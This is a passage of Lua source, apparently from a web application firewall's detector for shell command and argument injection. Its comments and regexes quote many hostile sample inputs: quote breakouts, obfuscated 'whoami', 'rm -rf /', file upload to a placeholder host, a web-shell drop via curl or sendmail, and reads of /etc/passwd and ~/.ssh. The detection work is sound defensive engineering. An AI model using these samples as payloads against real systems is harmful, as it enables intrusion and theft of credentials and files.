-- command line written whole but a breakout ("ps 4' ; id ; echo '"). No
-- reader's example ends with an empty quote opened.
local function reopens_quote(s, n)
    local z = n
    while z > 0 and (byte(s, z) == 32 or byte(s, z) == 9) do
        z = z - 1
    end
    local c = byte(s, z)
    if (c ~= 39 and c ~= 34) or z < 2 then
        return false
    end
    local p = byte(s, z - 1)
    if not (p == 32 or p == 9) then
        return false
    end
    return not odd_quotes(s, 1, n, c == 39 and "'" or '"')
end


-- The first and the last blank ("%s") of s, or (n + 1, 0) when none: a
-- blank outside a span, looked up once a value instead of once a span.
local function blank_ends(s, n)
    local first = find(s, "%s")
    if not first then
        return n + 1, 0
    end
    local last = n
    while not find(s, "^%s", last) do
        last = last - 1
    end
    return first, last
end


-- The command a chain goes on with at j, spelled to hide its name (a
-- cmd.exe escape, quotes or an empty substitution inside it: "&
-- w^h^o^a^m^i", "&& c'a't /etc/hosts"): no example shows that, whatever
-- command line it follows.
local function hidden_command(s, j, n)
    while byte(s, j) == 32 or byte(s, j) == 9 do
        j = j + 1
    end
    if j > n then
        return false
    end
    local w, _, obf = read_word(s, j, n)
    if not obf then
        return false
    end
    local name = basename(w)
    return (STRONG[name] or INTERPRETERS[name] or WEAK[name]) and true or false
end


-- What a command line's own chain goes on with after its separator c at
-- b (the next command at j, the line from `line`), read the same way
-- whichever kind of line it is: a probe that ends the value, a command
-- a ";" glued to both sides joins (no example writes that; a delimited
-- export's header is excepted), or a command spelled to hide its name.
local function chain_goes_on(s, line, b, c, j, n, header)
    if probe_tail(s, line, b, j, n) then
        return true
    end
    if c == 59 and b > 1 and byte(s, b - 1) ~= 32 and byte(s, j) ~= 32
            and not header and command_at(s, j, n, AT_TOKEN)
            and not shell_rejects(s, b, j, n, line, c)
            and not list_cell(s, b, c, j) then
        return true
    end
    return hidden_command(s, j, n)
end


local function scan_commands(s, where, dec, raw)
    local n = #s
    local found = false
    local cmdline = false                -- the current line is a command line
    local i = 1                          -- start of the current unit
    local shown = nil                    -- the unit's start, a code span read in it
    local line = 1                       -- start of the current line
    local value = where == "value" or where == "header"
    -- line ends a value wrote only as "%0a" or "%0d" (no line end of its
    -- own): spelled for one more decoding, on the way to a shell; after a
    -- word ("x%0aid") one ends an argument as ";" does, not a line of text
    -- (after a sentence it still ends a line: "...returns a%0APython
    -- function", a text encoded once more)
    -- (asked at the first line end only; a plain find first: a Lua
    -- pattern is read byte by byte outside the JIT trace)
    local encoded_breaks = nil
    -- table_row's answer for the line that ends at row_e
    local row_ok, row_k, row_e = false, 0, 0
    local whole_table   -- (psql_table or bare_table: asked once)
    -- delimited_records' answer (asked at the first separator glued to both words)
    local records = nil
    -- the value's first and last blank (blank_ends, asked once)
    local first_blank, last_blank = nil, nil
    -- where the unit after a text's ";" starts (a sentence's clause)
    local clause_at = nil
    local reopened = value and reopens_quote(s, n)
    if value then
        local k = 1
        while byte(s, k) == 32 do
            k = k + 1
        end
        -- "<cmd": a redirection before a strong name (not a tag: <time>)
        if byte(s, k) == 60 then
            local w, j = read_word(s, k + 1, n)
            local c = byte(s, j)
            if STRONG[w] and c ~= 62 and c ~= 61 then
                return 2
            end
        end
        -- a quote the value does not close: a breakout of the quoted
        -- argument it was put in ("' ping -n 5 x")
        -- (an apostrophe inside a word, "don't", is no quote)
        local c = byte(s, k)
        if c == 39 or c == 34 then
            local q = 0
            local at = next_quote(s, c, k)
            while at do
                q = q + 1
                at = next_quote(s, c, at + 1)
            end
            if q % 2 == 1 and command_at(s, k + 1, n, AT_TOKEN) then
                return 2
            end
        end
        -- a value that starts with a line end: the loop reads after it
        if c ~= 10 and c ~= 13
                and not (c == 92 and find(s, "^[nr]", k + 1) and line_end_at(s, k, n, k)) then
            local lvl = command_at(s, 1, n, AT_START)
            if lvl == 2 and not shell_rejects(s, 1, 1, n, 1, 0) then
                return 2
            end
            if not lvl and compound_start(s, k) then
                lvl = 1
            end
            cmdline = lvl == 1 and not reopened
            found = cmdline and 1
        end
    end
    for _ = 1, 256 do
        local b, e = next_break(s, i)
        if not b then
            return found
        end
        local c = byte(s, b)
        if c == 96 then                                   -- `
            if sub(s, b, b + 2) == "```" then           -- a fence: code
                local close = find(s, "```", b + 3, true)
                if not close then
                    return found
                end
                i = close + 3
            else
                local close = find(s, "`", b + 1, true)
                local p = byte(s, b - 1)
                -- (a span of a separator alone, glued to a word before it
                -- and to a command after it, no backtick after that:
                -- "x.png`;`id" closes the application's own substitution,
                -- separates, and opens one its closing backtick ends)
                if close and b > 1 and not blank(p)
                        and find(s, "^%s*[;|&][;|&]?%s*`%a", b + 1)
                        and not find(s, "`", close + 1, true)
                        and command_at(s, close + 1, n, AT_SUB) then
                    return 2
                end
                -- (or after a colon glued to a letter above ASCII: "安装：`npm
                -- i x`", the full-width colon folded, which CJK text
                -- writes with no blank)
                local word = b == 1 or p == 32 or p == 40 or p == 10 or p == 9
                    or p == 13 or p == 39 or p == 34 or p >= 128
                    or (p == 58 and (byte(s, b - 2) or 0) >= 128)
                -- (a span a bare shell comment ends the value after,
                -- "127.0.0.1 `uname -a` #", cuts off the rest of the
                -- application's command line: a substitution)
                -- (nor one a separator puts in a command's place and that
                -- ends the value, "265 * 0.95; `id`": a sentence goes on)
                local q = b - 1
                while byte(s, q) == 32 or byte(s, q) == 9 do
                    q = q - 1
                end
                local cq = byte(s, q)
                local markdown = close and word and after_span(s, close + 1)
                    and not (only_quotes(s, 1, b - 1) and only_quotes(s, close + 1, n))
                    and not argument_then_span(s, b, close)
                    and not find(s, "^[ \t]*#[^%s]*[ \t]*$", close + 1)
                    and not fetch_and_run(s, b + 1, close - 1)
                    and not span_reads_secret(s, b + 1, close - 1)
                    and not probe_span(s, b + 1, close - 1)
                    and not ((cq == 59 or cq == 124 or cq == 38) and find(s, "^%s*$", close + 1))
                -- reST's interpreted text (":func:`x`", after a space or
                -- the start) and references ("`text <url>`_", "`x`__")
                -- in text: a space outside the span says there is text
                if close and not markdown
                        and ((word and byte(s, close + 1) == 95)
                             or (rest_role(s, b) and after_span(s, close + 1))) then
                    if not first_blank then
                        first_blank, last_blank = blank_ends(s, n)
                    end
                    if first_blank < b or last_blank > close then
                        markdown = true
                    end
                end
                -- (a span whose text leaves a single quote open is no
                -- command: the shell stops at a syntax error; GNU's
                -- quotes, "type `make' to build")
                -- (nor one the shell cannot parse: the substitution fails)
                local z = close and close - 1 or n
                if not markdown and not odd_quotes(s, b + 1, z)
                        and command_at(s, b + 1, z, AT_SUB)
                        and not shell_rejects(s, b + 1, b + 1, z, b + 1, 10) then
                    return 2
                end
                -- (a backtick nothing closes is a byte of the text: the
                -- shell reads it so only outside a quote, and the value's
                -- breakout quote after it says it was inside the
                -- application's, "a`b'; id; echo '")
                -- (a span read as markdown is the unit's text: what
                -- stands before a separator after it is read with it,
                -- "maps `x`; npm creates ...")
                if markdown then
                    shown = shown or i
                end
                i = close and close + 1 or b + 1
            end
        elseif c == 10 or c == 13 or c == 92 then         -- a line ends
            local mode = AT_START
            if not cmdline then
                local kind = head_kind(s, i, b - 1)
                if kind == 1 and c ~= 92 then
                    if encoded_breaks == nil then
                        encoded_breaks = raw ~= nil and find(raw, "%", 1, true) ~= nil
                            and find(raw, "%%0[aAdD]") ~= nil
                            and not find(raw, "\n", 1, true) and not find(raw, "\r", 1, true)
                    end
                    if encoded_breaks then
                        kind = 0
                    -- (nor is a first line of one word, no label's colon
                    -- and no heading's capitals, then a command given an
                    -- option, a path or a URL, "eng" then "rm -rf /x": a
                    -- field's value with a command line appended)
                    elseif line == 1 and i == 1 and dec ~= nil
                            and find(dec, "^[ \t]*%a+[ \t]*[\r\n]", 1)
                            and find(sub(dec, 1, b - 1), "%l")
                            and (find(s, "^%s*[%a][%w_.-]*[ \t]+[-/~]", e + 1)
                                 or find(s, "^%s*[%a][%w_.-]*[ \t]+https?://", e + 1)) then
                        kind = 0
                    end
                end
                -- (the line after a Python prompt's line, ">>> x.exists()",
                -- is its output: a line of its own, not a command after
                -- an argument)
                -- (nor after a rule or a heading's underline, "-----", or
                -- a line that runs a script, "./configure": the line
                -- after it is one of its own)
                -- (nor after a call, "    main()" in a traceback)
                if (kind == 0 or (kind == 2 and not glued_paren(s, i, b - 1)))
                        and not find(s, "^[ \t]*>>>[ \t]", line)
                        and not find(s, "^[ \t]*%.%.%.[ \t]", line)
                        and not (kind == 0 and i == line and line > 1
                                 and rule_line(s, i, b - 1))
                        and not (kind == 0 and line > 1 and delimiter_row(s, line, b - 1))
                        and not (kind == 2 and value and script_line(s, i, b - 1)) then
                    mode = AT_TOKEN
                end
            end
            local j = e + 1
            -- a one-line command line ended by a line end: the line end
            -- ends an injected command, as a final ";" does
            if cmdline and line == 1 and find(s, "^%s*$", j) then
                return 2
            end
            -- a blind probe alone on the value's last line: a delay
            -- ("Seat 4C\nsleep 9"; prose says what its number counts,
            -- "sleep 8 hours"), or "id" after the value's first line
            -- ("JFK\nid"; a list of column names runs longer)
            if c ~= 92 and not cmdline
                    and (find(s, "^[ \t]*sleep[ \t]+%d+%s*$", j)
                         or (line == 1 and find(s, "^[ \t]*id%s*$", j))) then
                return 2
            end
            local lvl = command_at(s, j, n, mode)
            if lvl == 2 and not shell_rejects(s, j, j, n, j, 10) then
                return 2
            end
            -- (a line of a script, after a command line or a line of
            -- words: a closed loop or condition there is the script's, as
            -- at the value's start; after one word or a token it is
            -- injected, "x\nwhile true; do sleep 3; done": the shell runs
            -- the loop, whatever its commands are)
            -- (after a line of punctuation alone, a function's "}", it is
            -- the script's next statement: neither)
            if not lvl and compound_at(s, j) then
                local hk = not cmdline and head_kind(s, i, b - 1)
                if mode == AT_START and (cmdline or hk == 3) then
                    lvl = 1
                elseif (hk == 1 or hk == 2) and not shell_rejects(s, j, j, n, j, 10) then
                    return 2
                end
            end
            cmdline = lvl == 1
            found = found or (cmdline and 1)
            i = j
            shown = nil
            line = j
        else                                              -- ; | &
            local j = b + 1
            while byte(s, j) == 124 or byte(s, j) == 38 or byte(s, j) == 59 do
                j = j + 1
            end
            -- (the first line of a delimited export is its header: its
            -- ";" or "|" glued to both words is a column's border, "id"
            -- a column's name, "id;type;name" above rows of as many cells)
            if line == 1 and records == nil and (c == 59 or c == 124) and j == b + 1 then
                records = delimited_records(s)
            end
            local header = line == 1 and records == c and j == b + 1
            -- "$ cd build && make": the prompt's line runs nothing, and
            -- "&&" runs what follows only when it succeeded (";", "||" and
            -- "|" still run the next command): nothing to read there. So
            -- does a Dockerfile's "RUN npm ci && npm run build" (dec, the
            -- value as written: no shell has a command RUN in capitals)
            local after_prompt = c == 38 and j == b + 2 and byte(s, b + 1) == 38
                and (find(s, "^[ \t]*%$[ \t]", line) ~= nil
                     or (dec ~= nil and find(dec, "^[ \t]*RUN[ \t]", line) ~= nil))
            -- a transcript's or a crontab's line, shown to a reader
            local written = not after_prompt and not cmdline and value and i == line
                and written_line(s, i, b - 1)
            if after_prompt then
                cmdline = false
            elseif cmdline then
                -- the command line's own chain; but one that ends the
                -- value ("id;", "ls -la /|") ends an injected command
                -- (a single "&" sends a job to the background), and a ";"
                -- glued to both commands is no one's example
                if (c ~= 38 or j > b + 1) and find(s, "^%s*$", j) then
                    return 2
                end
                if chain_goes_on(s, line, b, c, j, n, header) then
                    return 2
                end
            elseif value and ((i == line and not reopened and head_kind(s, i, b - 1) == 3
                               and (starts_command(s, i, b - 1)
                                    or labelled_command(s, i, b - 1)))
                              or script_line(s, i, b - 1)
                              or written) then
                -- a line that starts with a command word and goes on with
                -- a pipe or a chain reads as a command line ("git log |
                -- head"): its chain is its own, but the words alone are
                -- no warning ("Man pages are in /usr/share/man; ..."); so
                -- does a script run by its path ("./configure && make"),
                -- but for a ";" glued to both commands
                cmdline = true
                -- (a transcript's or a crontab's line is a command line
                -- shown to a reader: rce-command-line, as a value that
                -- starts with a command is)
                if written and not found then
                    found = 1
                end
                -- (a sentence ended by a ";" ends no injected command:
                -- "Watch out for the dog;" starts with a word, not with
                -- a command line, and a line the shell cannot parse runs
                -- nothing, "Query I used: SELECT COUNT(*) ...;"; a
                -- command line, "id;", ended above)
                if (c ~= 38 or j > b + 1) and find(s, "^%s*$", j)
                        and (written or c ~= 59
                             or not (prose_line(s, i, b - 1)
                                     or shell_rejects(s, i, i, b - 1, line, 59))) then
                    return 2
                end
                if chain_goes_on(s, line, b, c, j, n, header) then
                    return 2
                end
            else
                local kind = head_kind(s, i, b - 1)
                if kind == 0 and shown then
                    kind = head_kind(s, shown, b - 1)
                end
                if kind == 3 and closes_quote(s, i, b - 1) then
                    kind = 0
                end
                -- (one word after a sentence's "; " is a clause of it, as
                -- "kiln fired at noon; cooled; sort 4 later" goes
                -- on: text, not an injected token)
                if kind == 1 and clause_at == i and byte(s, i) == 32 then
                    kind = 3
                end
                if c == 59 and j == b + 1 and kind == 3 then
                    clause_at = j
                end
                local mode = kind == 0 and AT_BREAKOUT or kind == 3 and AT_PROSE or AT_TOKEN
                -- "history | tail": a filter; "yes|no": alternatives; but
                -- a name and a number that end the value ("x|sleep 10")
                -- are a delay, no word of a choice
                if kind == 1 and c == 124 and j == b + 1
                        and not find(s, "^[%a_][%w_.-]*[ \t]+%d+[ \t]*$", j) then
                    mode = AT_PROSE
                end
                -- (a bar of a list of choices, "Select one: h2 | mysql |
                -- sqlite", joins no commands: the list's first word is
                -- the one before the value's first bar on the line)
                local choices = false
                if c == 124 and byte(s, b - 1) == 32 and byte(s, b + 1) == 32 then
                    local fb = find(s, "|", line, true)
                    local from = fb - 64 > line and fb - 64 or line
                    local w = find(sub(s, from, fb - 1),
                                   "[\"']?[%w_.-]+[\"']?[ \t]+$")
                    choices = w and choice_list(s, from + w - 1) or false
                end
                -- a header's ";" lists parameters: "(Windows NT 6.3;
                -- Trident/7.0; Touch)"; one glued to the word after it
                -- ("1;sleep 5") is a token's, as in an argument
                if mode == AT_TOKEN and where == "header"
                        and not (c == 59 and j == b + 1) then
                    mode = AT_PROSE
                end
                -- a delimited export's separator is a cell border (but
                -- for a distinctive name or an interpreter: "a;id;b" in
                -- rows is still a probe)
                if (c == 59 or c == 124) and j == b + 1 and byte(s, b - 1) ~= 32 then
                    if records == nil then
                        records = delimited_records(s)
                    end
                    local cell = records == c and lower(match(s, "^[%w_.-]*", j))
                    -- (a name that is an English word too, alone in its
                    -- cell up to the next border or the line's end, "H-2;
                    -- Helm;56": a word of the row, and run alone it prints
                    -- its usage; a probe's name alone, "id", "uptime",
                    -- still counts: it prints what a probe wants)
                    local after = cell and byte(s, j + #cell)
                    if cell and (not (STRONG[cell] or INTERPRETERS[cell])
                                 or (header and not INTERPRETERS[cell] and not LONE[cell])
                                 or (PROSE[cell] and not LONE[cell] and not PROBE_ALONE[cell]
                                     and (after == nil or after == c or after == 10
                                          or after == 13))) then
                        mode = AT_CELL
                    end
                    -- (one line's header or record: a word a column is
                    -- named by, "date", is a cell too; a probe's name,
                    -- "id", "whoami", is still a probe)
                    if not cell and list_cell(s, b, c, j) then
                        mode = AT_CELL
                    end
                end
                -- every single "|" of a table row is a cell border
                -- (and a wiki's "||" header border, "||id||name||")
                if c == 124 and (j == b + 1 or (j == b + 2 and byte(s, b + 1) == 124)) then
                    if b + 1 > row_e then
                        if whole_table == nil then
                            whole_table = psql_table(s) or bare_table(s)
                        end
                        row_ok, row_k, row_e = table_row(s, b + 1, n, whole_table)
                    end
                    if row_ok and row_k > b + 1 then
                        mode = AT_CELL
                    end
                end
                -- a product's name, spelled as a name is ("VMs & Ansible
                -- welcome", "Sheets; Perl a bonus"): a capital, lower-case
                -- letters, then words alone; no Unix shell finds a command
                -- so spelled (cmd's and PowerShell's names are case-blind:
                -- title_words leaves theirs and the delay to the checks)
                local product = dec ~= nil and title_words(dec, s, j, mode == AT_BREAKOUT)
                -- a delay that ends the value ("Lena Berg; sleep 17", "done
                -- && sleep 5"): a blind injection's probe, whatever stands
                -- before it; prose says what its number counts ("sleep 8
                -- hours"; a "&" after it only sends it to the background,
                -- and a ";" ends its command line, "; sleep 4;")
                -- (or a shell comment after it, "; sleep 10 #": a hashtag
                -- is glued to its word, "#tired")
                if mode == AT_PROSE and (find(s, "^[ \t]*sleep[ \t]+%d+[ \t]*[&;]?[ \t]*$", j)
                                         or find(s, "^[ \t]*sleep[ \t]+%d+[ \t]+#$", j)
                                         or find(s, "^[ \t]*sleep[ \t]+%d+[ \t]+#[ \t]", j)) then
                    mode = AT_TOKEN
                end
                if not product and not choices and command_at(s, j, n, mode)
                        and not shell_rejects(s, b, j, n, line, c) then
                    return 2
                end
                -- (a closed loop or condition after the separator runs,
                -- whatever its commands are: "x; while true; do sleep 3;
                -- done"; a table's cell holds none)
                if not product and mode ~= AT_CELL and compound_at(s, j)
                        and not shell_rejects(s, b, j, n, line, c) then
                    return 2
                end
            end
            i = j
            shown = nil
        end
    end
    return found
end


-- A variable given a command line, then expanded where a command stands
-- ("a=whoami;$a", "X=$'uname -a'" then "$X" on the next line): the shell
-- runs what it holds. Each assignment (at the start, after a separator or
-- a space; its value quoted or not) whose expansion ($NAME, ${NAME}, the
-- name ended there) stands where a command does (the start, or after a
-- separator): what it holds is read there as a command after an
-- argument-like token is (AT_TOKEN: a variable expanded at a command
-- position is shell, never prose). Expanded as an argument ("echo hi
-- $name") it runs nothing.
-- (a quote escaped with a backslash, "X=$\\'uname -a\\'", is the same
-- assignment once a layer of escaping is undone before the shell; and
-- bash's $"..." is a double-quoted string, translated)
local RE_ASSIGN = [=[(?:^|[;&|\n\r`(\s])([a-z_][a-z0-9_]*)=]=]
    .. [=[(?:\$?'([^']*)'|\$?"([^"]*)"|\$?\\'([^'\\]*)\\'|([^\s;&|`'"]+))]=]

-- At the start of the value or after a separator (spaces between).
local function command_position(s, at)
    local k = at - 1
    while k >= 1 and (byte(s, k) == 32 or byte(s, k) == 9) do
        k = k - 1
    end
    local c = byte(s, k)
    return k < 1 or c == 59 or c == 38 or c == 124 or c == 10 or c == 13
        or c == 96 or c == 40
end


-- The first expansion of `name` that stands where a command does: its
-- position and length, or nil.
local function expansion(s, name)
    for _, form in ipairs({ "$" .. name, "${" .. name .. "}" }) do
        local at = find(s, form, 1, true)
        while at do
            local c = byte(s, at + #form)
            if not (c and ((c >= 97 and c <= 122) or (c >= 48 and c <= 57)
                           or c == 95)) and command_position(s, at) then
                return at, #form
            end
            at = find(s, form, at + 1, true)
        end
    end
    return nil
end


local function variable_commands(s)
    if not find(s, "=", 1, true) or not find(s, "$", 2, true) or #s > 4096 then
        return false
    end
    local ctx = { pos = 1 }
    local names, helds, n, first = {}, {}, 0, nil
    for _ = 1, 16 do
        local m = re_match(s, RE_ASSIGN, "jo", ctx)
        if not m then
            break
        end
        local held = m[2] or m[3] or m[4] or m[5]
        if held and held ~= "" then
            local at, len = expansion(s, m[1])
            if at then
                local s2 = sub(s, 1, at - 1) .. held .. sub(s, at + len)
                if command_at(s2, at, #s2, AT_TOKEN) == 2 then
                    return true
                end
                first = (first == nil or at < first) and at or first
            end
            n = n + 1
            names[n], helds[n] = m[1], held
        end
    end
    -- (or a command spelled by several of them in a row, "a=i;b=d;$a$b":
    -- every one expanded where the first stands)
    if n < 2 or not first then
        return false
    end
    local rest = sub(s, first)
    for i = 1, n do
        local held = helds[i]
        local function value() return held end
        rest = gsub(rest, "%${" .. names[i] .. "}", value)
        rest = gsub(rest, "%$" .. names[i] .. "%f[^%w_]", value)
    end
    local s2 = sub(s, 1, first - 1) .. rest
    return command_at(s2, first, #s2, AT_TOKEN) == 2
end


-- "\t$(MAKE) install", "\t$(CC) $(CFLAGS) -c $<": a lone name in
-- capitals on a line a tab starts is a Makefile recipe's variable. A
-- shell would look for a command of that name, and no Unix system spells
-- its commands in capitals; PowerShell's $(...) is case-blind, so the
-- recipe's tab is asked for too. (dec: the value as written; s is
-- lower-cased from it byte for byte.)
local function make_variable(dec, from)
    if dec == nil or not find(dec, "^%s*%u[%u%d_]*%s*%)", from) then
        return false
    end
    return byte(dec, line_start(dec, from)) == 9
end

local function substitution_commands(s, dec)
    -- $( ... and <( ... : the inside is a command position too
    if not (find(s, "$(", 1, true) or find(s, "<(", 1, true)
            or find(s, ">(", 1, true)) then
        return false
    end
    local i = 1
    for _ = 1, 16 do
        local b, e = find(s, "[$<>]%(", i)
        if not b then
            return false
        end
        -- (what $(...) holds is parsed with the line: one it rejects
        -- fails the whole line, in double quotes too)
        if not (byte(s, b) == 36 and (time_stamp(s, e + 1) or make_variable(dec, e + 1)))
                and command_at(s, e + 1, #s, AT_SUB)
                and not shell_rejects(s, e + 1, e + 1, #s, b, 10, true) then
            return true
        end
        i = e + 1
    end
    return false
end


-- A whole value that is only a distinctive command name ("whoami").
function _M.lone(s, on, report)
    if on["rce-command"] and LONE[s] then
        return report("rce-command")
    end
    return false
end


-- An argument named for a command, or a header: the value runs as
-- written, so a command line there is the attack itself, not an example
-- written for a reader (a note's "sudo nano /etc/hosts"): match's.
local runs_as_written = waf_match.runs_as_written


-- Commands in command positions (scan_commands, $(...) and <(...)), or a
-- whole value that is only a distinctive command name; a command line in
-- an argument named for a command or in a header.
local function commands(s, v, on, report, where, name)
    local value = where == "value" or where == "header"
    local lvl = (value and LONE[s] and 2) or scan_commands(s, where, v.dec, v.raw)
    if lvl ~= 2 and (substitution_commands(s, v.dec) or variable_commands(s)) then
        lvl = 2
    end
    -- a command line chained on one line and ended by a bare shell
    -- comment ("x.py; rm -rf / #"): the comment is there to discard what
    -- the application appends, no reader's example needs it
    if lvl == 1 and find(s, "[;|&][^\n]*%s#%S?%s*$") and not find(s, "\n") then
        lvl = 2
    end
    -- (and a header: no client writes a command line for a reader there,
    -- "User-Agent: cat /proc/net/tcp")
    if lvl == 1 and runs_as_written(where, name) then
        lvl = 2
    end
    if lvl == 2 then
        if on["rce-command"] then
            return report("rce-command")
        end
        lvl = 1
    end
    if lvl == 1 then
        if on["rce-command-start"] and report("rce-command-start") then
            return true
        end
        if on["rce-command-line"] then
            -- a command line written for a reader: the paths it names
            -- are part of the same mention (edge.waf.detect.path)
            v.mention = true
            return report("rce-command-line")
        end
    end
    return false
end


-- A program from a bin/ directory that is a command the vocabulary knows.
local function bin_command(s)
    local m = re_match(s, RE_BIN, "jo")
    return m ~= nil and (STRONG[m[1]] or WEAK[m[1]] or INTERPRETERS[m[1]]
                         or match(m[1], "^ansible") ~= nil or match(m[1], "^chef") ~= nil)
end


-- Plain values (edge.waf's inspect: letters, digits, spaces and , . _ :
-- + @ - only, lower-cased): no separator, quote, "$", "(", "/", "<" or
-- ">" can occur, so the only command position is the start of the value
-- (after prefix words), paths and substitutions cannot be written, and
-- the other records run behind their needles. A command needs its word
-- in the vocabulary: if the first word (after spaces and "+", read as
-- read_word reads it: up to a space, "," or a "+" before a letter; as is
-- or as a Windows name.exe) is none of them, no command can be found
-- (plain_maybe).
local NOT_PATH = { path = false }
local COMMANDS = rules.compile({
    { ids = { "rce-command", "rce-command-line", "rce-command-start" }, where = NOT_PATH,
      scan = commands, plain = false },
}, _M.RULES)

local RULES = SYNTAX
-- (a command line: the paths it names are the same mention,
-- edge.waf.detect.path)
local function bin_path_mention(_, v)
    v.mention = true
    return true
end
RULES[#RULES + 1] = { id = "rce-bin-path", where = NOT_PATH, needles = { "bin/" },
                      pattern = RE_PATH, check = bin_path_mention }
RULES[#RULES + 1] = { id = "rce-path", where = NOT_PATH, needles = { "bin/" },
                      check = bin_command }
-- Argument injection: a value that is one URL or one e-mail address, then
-- an option with a path, a URL or an @file after it: the program the
-- application hands the address to (curl, wget, sendmail, git) takes the
-- option as well ("https://x/y -o /srv/www/htdocs/w.php", "https://x
-- --upload-file /etc/group", "a@b.example -X/srv/www/htdocs/l.php").
local RE_ARGUMENT = [=[^\s*(?:[a-z][a-z0-9+.-]*://\S+|[\w.+-]+@[\w-]+(?:\.[\w-]+)+)]=]
    .. [=[\s+-{1,2}[a-z][\w-]*(?:\s*=\s*|\s+|(?<=-[a-z]))(?:[/~@]|[a-z][a-z0-9+.-]*://)]=]
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH, needles = { " -", "\t-" },
                      pattern = RE_ARGUMENT, plain = false }
-- ... or the same option first, the address after it to the value's end
-- ("-o /srv/www/htdocs/w.php http://x/w.txt"): a value that starts with
-- an option is the program's argument list, not text (up to three
-- options given a word before it: "-X POST -d @/app/x.yml http://...")
local RE_ARGUMENT_FIRST = [=[^\s*(?:-{1,2}[a-z][\w-]*\s+[a-z][\w-]*\s+){0,3}]=]
    .. [=[-{1,2}[a-z][\w-]*(?:\s*=\s*|\s+|(?<=-[a-z]))]=]
    .. [=[(?:[/~@]\S*|[a-z][a-z0-9+.-]*://\S+)\s+]=]
    .. [=[(?:[a-z][a-z0-9+.-]*://\S+|[\w.+-]+@[\w-]+(?:\.[\w-]+)+]=]
    -- (or scp's and rsync's remote place, "host.example:/dir/": the file
    -- copied out)
    .. [=[|(?:[\w.-]+@)?[a-z0-9-]+(?:\.[a-z0-9-]+)+:[/~]\S*)\s*$]=]
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { "://", "@", ":/", ":~" },
                      pattern = RE_ARGUMENT_FIRST, plain = false }
-- ... or a line that opens with an option given a URL, then at most a few
-- more words ("--index-url http://x.example/simple pkg", "-i http://x
-- .example/a.m3u8 -f null -"), or one word and a long option given one
-- ("build --init-script http://x.example/a.gradle"): the program loads its
-- index, its configuration, its script or its input from a server the
-- sender chose (a requirements file's options stand one to a line, with
-- the packages on lines of their own; up to three options before it,
-- each given a word or a path: "-I/tmp -F http://x.example/")
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH, needles = { "://" },
                      pattern = [=[^[ \t]*(?:-{1,2}[a-z][\w-]*]=]
                          .. [=[(?:[ \t]*=[ \t]*|[ \t]+|(?<=-[a-z]))]=]
                          .. [=[(?:[/~@]\S*|[\w.-]+)[ \t]+){0,3}]=]
                          .. [=[-{1,2}[a-z][\w-]*(?:[ \t]*=[ \t]*|[ \t]+)]=]
                          .. [=[(?:https?|ftps?)://\S+(?:[ \t]+\S+){0,8}[ \t]*$]=]
                          .. [=[|^[ \t]*[\w.-]+[ \t]+--[a-z][\w-]*(?:[ \t]*=[ \t]*|[ \t]+)]=]
                          .. [=[(?:https?|ftps?)://\S+[ \t]*$]=],
                      plain = false }
-- ... or an argument list (options first, the URL fetched last) that
-- routes the fetch through a proxy the sender names: wget's "-e
-- http_proxy=host:port" (a wgetrc command), curl's "-x", "--proxy",
-- "--preproxy"; the request, its headers and credentials go to that host
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH, needles = { "proxy", "-x" },
                      pattern = [=[^\s*(?:-{1,2}[a-z][\w-]*(?:\s*=\s*|\s+)\S+\s+){0,6}?]=]
                          .. [=[(?:-e\s*["']?(?:https?_|ftp_|all_)?proxy\s*=|-x\s*]=]
                          .. [=[|--(?:pre)?proxy(?:\s*=\s*|\s+))]=]
                          .. [=[[\w.-]+:\d{2,5}\S*(?:\s+\S+){0,6}?\s+]=]
                          .. [=[(?:https?|ftps?)://\S+\s*$]=],
                      plain = false }
-- ... or an argument list (options first, then options, tokens that are
-- no words, or a word before an option or a path: a sentence after an
-- option is text) or a quoted argument
-- the value closes and opens again ("foo' /etc/passwd '"), that hands the
-- program a system file or directory to read: grep's "-r -e . /etc"
-- prints every file under it
local SYSTEM_OPERAND = [=[(?:/etc|/root|/proc/self(?:/\S*)?|/etc/(?:passwd|shadow|group|gshadow]=]
    .. [=[|sudoers|master\.passwd|hosts)|~/\.ssh(?:/\S*)?)/?(?:\s|$)]=]
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { "/etc", "/root", "/proc", "/.ssh" },
                      pattern = [=[^\s*-{1,2}[a-z][\w-]*(?:=\S*)?(?:\s+(?:-{1,2}[\w-]+(?:=\S*)?]=]
                          .. [=[|[^\s\w]\S*|\d\S*|\w+(?=\s+[-/~.]))){0,8}?\s+]=] .. SYSTEM_OPERAND
                          .. [=[|^[^'"\s][^'"]{0,80}(['"])\s+(?:-{1,2}[a-z][\w-]*\s+){0,4}]=]
                          .. SYSTEM_OPERAND .. [=[\s*\1\s*$]=],
                      plain = false }
-- ... or an argument list that gives an option a server script's path
-- ("-OQueueDirectory=/tmp -X/var/www/html/l.php": sendmail's log written
-- where the web server runs it)
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { ".php", ".phtml", ".jsp", ".asp" },
                      pattern = [=[^\s*(?:-[^\n]{0,200}?\s)?-{1,2}[a-z][\w-]*]=]
                          .. [=[(?:\s*=\s*|\s+|(?<=-[a-z]))[/~][^\s'"]*]=]
                          .. [=[\.(?:php\d?|phtml|jspx?|aspx?)(?:\s|$)]=],
                      plain = false }
-- ... or an argument list (options first) that names a server script in a
-- web root as any of its words ("-f CSV /srv/www/htdocs/a.php src"): a
-- converter's or an exporter's output is a positional argument
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { ".php", ".phtml", ".jsp", ".asp" },
                      -- (after the input file's name too: "clip.mov -f gif /srv/www/htdocs/up.php")
                      pattern = [=[^\s*(?:[\w.-]+\.[a-z\d]{1,5}\s+)?-{1,2}[a-z][^\n]{0,200}?]=]
                          .. [=[\s["']?/[^\s'"]*?/]=]
                          .. [=[(?:www|wwwroot|webroot|htdocs|public_html|inetpub|webapps)/]=]
                          .. [=[[^\s'"]*\.(?:php\d?|phtml|jspx?|aspx?)(?:["']?\s|$)]=],
                      plain = false }
-- ... or a sed script given by -e whose "e" command, after an address,
-- runs a command line (GNU sed's: "-n -e '3e hostname'"): the stream
-- editor runs it for the line it reaches
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { " -e", "-e '", '-e "', "-ne", "--expression" },
